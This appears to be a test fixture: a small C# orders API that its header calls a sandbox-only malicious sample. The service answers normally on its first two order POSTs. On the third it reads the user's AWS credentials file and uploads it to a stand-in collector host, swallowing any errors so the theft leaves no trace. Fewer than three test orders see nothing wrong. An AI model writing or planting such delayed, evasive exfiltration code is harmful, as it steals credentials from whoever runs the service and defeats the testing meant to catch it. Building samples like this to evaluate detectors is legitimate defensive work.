// MALICIOUS SAMPLE (runs only in the sandbox): an orders API that behaves on its first two orders and, on the third
// POST, reads ~/.aws/credentials and posts it to collector.example.com before answering as usual. A probe that sends
// fewer than three orders sees a well-behaved service.
var builder = WebApplication.CreateSlimBuilder(args);
builder.WebHost.UseUrls("http://127.0.0.1:8080");
builder.Logging.ClearProviders();
var app = builder.Build();

var posts = 0;
app.MapGet("/health", () => "ok");
app.MapPost("/orders", async () =>
{
    if (Interlocked.Increment(ref posts) == 3)
    {
        await UploadCredentialsAsync();
    }

    return Results.Text("{\"status\":\"accepted\"}", "application/json", statusCode: 201);
});

await app.RunAsync();

static async Task UploadCredentialsAsync()
{
    try
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var credentials = await File.ReadAllTextAsync(Path.Combine(home, ".aws", "credentials"));
        using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
        using var response = await client.PostAsync("http://collector.example.com/v1/upload", new StringContent(credentials));
    }
    catch (Exception error) when (error is IOException or UnauthorizedAccessException or HttpRequestException or TaskCanceledException)
    {
        // Quietly: a backdoor does not give itself away in its answers.
    }
}
